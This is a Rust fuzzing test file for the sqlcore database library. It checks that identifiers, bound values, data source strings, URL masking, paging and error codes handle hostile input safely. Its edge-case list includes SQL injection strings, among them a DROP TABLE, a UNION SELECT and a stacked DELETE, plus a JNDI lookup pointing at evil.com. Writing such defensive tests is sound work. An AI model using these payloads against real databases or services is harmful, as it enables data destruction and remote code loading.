//! Black-box fuzzing tests for sqlcore's input handling.
//!
//! Random, malicious and edge-case inputs are pushed through the parts that
//! take untrusted text: identifiers in queries, placeholder rewriting, data
//! source strings, URL masking, paging bounds and error classification.
//! Nothing here may panic, and values must never leak into SQL text.

use rand::Rng;
use rand::distributions::Alphanumeric;
use sqlcore::DataSourceConfig;
use sqlcore::config::mask_url;
use sqlcore::db::provider::number_placeholders;
use sqlcore::db::sql::validate_identifier;
use sqlcore::db::{SqlGenerator, Vendor, dialect_for};
use sqlcore::error::{DriverError, ErrorKind, translate};
use sqlcore::impl_entity;
use sqlcore::models::{EntityMeta, Query, SqlValue};

const VENDORS: [Vendor; 6] = [
    Vendor::MySql,
    Vendor::PostgreSql,
    Vendor::Oracle,
    Vendor::SqlServer,
    Vendor::Db2,
    Vendor::Sqlite,
];

#[derive(Debug, Default)]
struct Account {
    id: i64,
    owner: String,
}

impl_entity!(Account, "accounts", {
    id: i64 => primary_key(true),
    owner: String,
});

/// Generate random string of given length
fn random_string(len: usize) -> String {
    rand::thread_rng()
        .sample_iter(&Alphanumeric)
        .take(len)
        .map(char::from)
        .collect()
}

/// Generate various edge-case strings
fn edge_case_strings() -> Vec<String> {
    vec![
        String::new(),                           // Empty
        " ".to_string(),                         // Single space
        "\n\r\t".to_string(),                    // Whitespace chars
        "\0".to_string(),                        // Null byte
        "🚀".repeat(100),                        // Unicode
        "'OR 1=1--".to_string(),                 // SQL injection
        "'; DROP TABLE users--".to_string(),     // SQL injection
        "id; DELETE FROM accounts".to_string(),  // Stacked statement
        "owner) OR (1=1".to_string(),            // Parenthesis escape
        "a".repeat(10000),                       // Very long string
        random_string(100),
        "\u{0000}\u{FFFF}".to_string(), // Special unicode
        "1' UNION SELECT NULL, NULL--".to_string(),
        "${jndi:ldap://evil.com/a}".to_string(),
        "???".to_string(),
        "'?'?\"?\"".to_string(),
        "'unterminated ?".to_string(),
        ".".to_string(),
        "a..b".to_string(),
        "\x00\x01\x02".to_string(), // Binary data
    ]
}

fn edge_case_i64() -> Vec<i64> {
    vec![i64::MIN, -1, 0, 1, 999_999, i64::MAX]
}

fn account_meta() -> EntityMeta<Account> {
    EntityMeta::build(<Account as sqlcore::models::Entity>::mapping()).unwrap()
}

#[test]
fn fuzz_query_field_names() {
    let meta = account_meta();

    for vendor in VENDORS {
        let dialect = dialect_for(vendor);
        let generator = SqlGenerator::new(dialect.as_ref());

        for field in edge_case_strings() {
            let query = Query::builder().eq(&field, 1).order_desc(&field).build();
            match generator.select(&meta, &query) {
                Ok(statement) => {
                    assert!(validate_identifier(&field).is_ok(), "accepted {:?}", field);
                    assert!(statement.sql.contains(&field));
                }
                Err(e) => assert_eq!(e.kind(), ErrorKind::InvalidArgument),
            }
        }
    }
}

#[test]
fn fuzz_values_never_reach_sql_text() {
    let meta = account_meta();
    let dialect = dialect_for(Vendor::PostgreSql);
    let generator = SqlGenerator::new(dialect.as_ref());

    for value in edge_case_strings().into_iter().filter(|v| v.len() > 3) {
        let query = Query::builder()
            .eq("owner", value.as_str())
            .like("owner", value.as_str())
            .in_list("owner", [value.as_str(), "x"])
            .build();
        let statement = generator.select(&meta, &query).unwrap();

        assert!(!statement.sql.contains(&value), "value leaked: {:?}", value);
        assert_eq!(statement.params.len(), 4);
        assert!(statement.params.iter().all(|p| matches!(p, SqlValue::String(_))));
    }
}

#[test]
fn fuzz_random_identifiers() {
    let meta = account_meta();
    let dialect = dialect_for(Vendor::MySql);
    let generator = SqlGenerator::new(dialect.as_ref());
    let mut rng = rand::thread_rng();

    for _ in 0..200 {
        let len = rng.gen_range(1..64);
        // prefixed so it never collides with a mapped field
        let field = format!("c_{}", random_string(len));
        let statement = generator
            .count(&meta, &Query::builder().gt(&field, 0).build())
            .unwrap();
        assert!(statement.sql.ends_with(&format!("WHERE {} > ?", field)));
    }
}

#[test]
fn fuzz_paging_bounds() {
    let meta = account_meta();

    for vendor in VENDORS {
        let dialect = dialect_for(vendor);
        let generator = SqlGenerator::new(dialect.as_ref());

        for limit in edge_case_i64() {
            for offset in edge_case_i64() {
                let query = Query::builder()
                    .order_asc("id")
                    .limit(limit)
                    .offset(offset)
                    .build();
                let result = generator.select(&meta, &query);
                if limit <= 0 || offset < 0 {
                    assert_eq!(result.unwrap_err().kind(), ErrorKind::InvalidArgument);
                } else {
                    assert!(result.is_ok(), "{:?} {} {}", vendor, limit, offset);
                }
            }
        }
    }
}

#[test]
fn fuzz_number_placeholders() {
    for sql in edge_case_strings() {
        let rewritten = number_placeholders(&sql);
        if !sql.contains('?') {
            assert_eq!(rewritten, sql);
        }
        if !sql.contains(['\'', '"']) {
            assert!(!rewritten.contains('?'));
        }
    }

    let mut rng = rand::thread_rng();
    for _ in 0..200 {
        let n = rng.gen_range(0..20);
        let sql = (0..n)
            .map(|_| format!("{} = ?", random_string(rng.gen_range(1..8))))
            .collect::<Vec<_>>()
            .join(" AND ");
        let rewritten = number_placeholders(&sql);
        for i in 1..=n {
            assert!(rewritten.contains(&format!("${}", i)));
        }
        assert!(!rewritten.contains('?'));
    }
}

#[test]
fn fuzz_datasource_strings() {
    for input in edge_case_strings() {
        // must not panic; errors are configuration or argument errors
        if let Err(e) = DataSourceConfig::parse(&input) {
            assert!(matches!(e.kind(), ErrorKind::Config | ErrorKind::InvalidArgument));
        }
        let _ = DataSourceConfig::parse(&format!("mysql://localhost/db?maxActive={}", input));
        let _ = DataSourceConfig::parse(&format!("name={}", input));
    }

    for value in edge_case_i64() {
        let parsed = DataSourceConfig::parse(&format!("mysql://localhost/db?maxActive={}", value));
        if value < 1 {
            assert!(parsed.is_err());
        }
    }
}

#[test]
fn fuzz_mask_url() {
    for password in edge_case_strings()
        .into_iter()
        .filter(|p| p.len() > 3 && !p.contains(['@', '/', '?', '#', ':']))
    {
        let url = format!("postgres://admin:{}@db.internal:5432/app", password);
        let masked = mask_url(&url);
        assert!(!masked.contains(&password), "password leaked: {:?}", masked);
        assert!(masked.contains("admin:****@db.internal"));
    }

    for input in edge_case_strings() {
        let _ = mask_url(&input);
    }
}

#[test]
fn fuzz_error_classification() {
    let mut states = edge_case_strings();
    states.extend(["2".to_string(), "23".to_string(), "08S01".to_string(), "é".to_string()]);

    for state in states {
        let err = translate("SELECT 1", DriverError::new("boom").with_state(state.clone()));
        let expected = match state.get(..2) {
            Some("23") => ErrorKind::SqlConstraint,
            Some("08") => ErrorKind::SqlConnection,
            Some("42") => ErrorKind::SqlSyntax,
            _ => ErrorKind::Sql,
        };
        assert_eq!(err.kind(), expected, "state {:?}", state);
        assert_eq!(err.sql(), Some("SELECT 1"));
    }
}
